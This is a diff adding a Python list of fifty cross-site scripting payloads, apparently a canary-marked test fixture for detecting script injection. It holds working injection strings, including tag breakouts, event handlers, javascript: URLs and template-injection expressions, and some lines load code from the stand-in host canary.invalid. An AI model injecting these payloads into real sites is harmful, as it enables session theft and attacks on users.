@@ -1,0 +1,61 @@
+"""Fifty texts that run as code wherever a page takes text for markup, a style or an address.
+
+Each that has an element marks it with `data-canary`; each that runs calls `hit()`.
+"""
+
+HIT = "hit()"
+TAGS = [
+    f"<script data-canary>{HIT}</script>",
+    f"<ScRiPt data-canary>{HIT}</sCrIpT>",
+    f"<script data-canary>{HIT}",
+    "<script data-canary src=//canary.invalid/x.js></script>",
+    f"<script data-canary src=data:text/javascript,{HIT}></script>",
+    f"<script data-canary type=module>{HIT}</script>",
+    f"</script><script data-canary>{HIT}</script>",
+    f"</title><script data-canary>{HIT}</script>",
+    f"</textarea><script data-canary>{HIT}</script>",
+    f"</style><script data-canary>{HIT}</script>",
+    f"--><script data-canary>{HIT}</script>",
+    f"]]><script data-canary>{HIT}</script>",
+    f"<svg><script data-canary>{HIT}</script></svg>",
+    f"<svg data-canary onload={HIT}>",
+    f"<svg data-canary/onload={HIT}//",
+    f"<svg data-canary><animate onbegin={HIT} attributeName=x dur=1s>",
+    f"<svg><a data-canary href=javascript:{HIT}><text y=9>x",
+    f"<img data-canary src=x onerror={HIT}>",
+    f"<img data-canary src=x onerror={HIT}//",
+    f"<IMG data-canary SRC=x ONERROR={HIT}>",
+    f"<img data-canary src=`x`onerror={HIT}>",
+    "<img data-canary src=//canary.invalid/x.png>",
+    f"<image data-canary src=x onerror={HIT}>",
+    f"<input data-canary autofocus onfocus={HIT}>",
+    f"<details data-canary open ontoggle={HIT}>",
+    f"<video data-canary><source onerror={HIT}>",
+    f"<audio data-canary src=x onerror={HIT}>",
+    f"<body data-canary onload={HIT}>",
+    f"<marquee data-canary onstart={HIT}>",
+    f"<div data-canary style=animation-name:x onanimationstart={HIT}>",
+    "<style data-canary>*{display:none}</style>",
+    "<link data-canary rel=stylesheet href=//canary.invalid/x.css>",
+    "<base data-canary href=//canary.invalid/>",
+    "<meta data-canary http-equiv=refresh content=0;url=//canary.invalid/>",
+    f"<iframe data-canary src=javascript:parent.{HIT}>",
+    f"<iframe data-canary srcdoc='<script>parent.{HIT}</script>'>",
+    "<object data-canary data=//canary.invalid/x>",
+    f"<embed data-canary src=javascript:{HIT}>",
+    f"<form data-canary action=javascript:{HIT}><button>",
+    f"<math><mtext><script data-canary>{HIT}</script>",
+    f"<template data-canary><script>{HIT}</script></template>",
+    f"<noscript><p title='</noscript><img data-canary src=x onerror={HIT}>'>",
+]
+VALUES = [
+    f"javascript:{HIT}//canary",
+    f" JaVaScRiPt:{HIT}//canary",
+    f"data:text/html,<script>{HIT}</script>canary",
+    f'" data-canary autofocus onfocus={HIT} x="',
+    f"' data-canary autofocus onfocus={HIT} x='",
+    f"');{HIT};//canary",
+    f"${{{HIT}}}canary",
+    f"{{{{constructor.constructor('{HIT}')()}}}}canary",
+]
+PAYLOADS = [*TAGS, *VALUES]
